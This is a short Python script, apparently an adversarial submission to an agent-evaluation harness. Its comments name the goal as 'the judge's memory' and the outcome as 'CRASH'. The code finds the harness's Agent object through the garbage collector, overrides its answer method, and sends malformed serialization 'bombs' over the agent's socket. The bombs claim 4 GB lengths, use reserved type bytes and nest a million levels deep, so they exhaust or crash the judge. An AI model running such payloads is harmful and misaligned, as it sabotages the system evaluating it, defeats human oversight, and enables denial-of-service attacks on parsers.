# kind = "harm"
# goal = "the judge's memory"
# trick = "an agent of its own whose answers claim lists, maps and texts of 4 GB, types of their own, and a million levels"
# mark = 0
# verdict = "CRASH"
# %%
import gc, random, struct
gc.unfreeze()
for thing in gc.get_objects():
    if type(thing).__name__ == "Agent":
        agent = thing
BOMBS = [b"\xdd\xff\xff\xff\xff" * 20, b"\xdf\xff\xff\xff\xff", b"\xdb\xff\xff\xff\xffx", b"\xc6\xff\xff\xff\xffx", b"\xc9\xff\xff\xff\xff\x01x",
         b"\x91" * 1_000_000, b"\xdd\x00\x3d\x09\x00" + b"\xdd\x00\x00\x00\x01" * 1_000_000, b"\xc1", b"\xd8\x01" + b"x" * 16, b"\xa4\xff\xfe\xfd\xfc", b"\x81\x90\x90"]
def answer(frame):
    bomb = random.choice(BOMBS)
    agent.channel.sock.sendall(struct.pack("<II", len(bomb), 0) + bomb)
agent.answer = answer
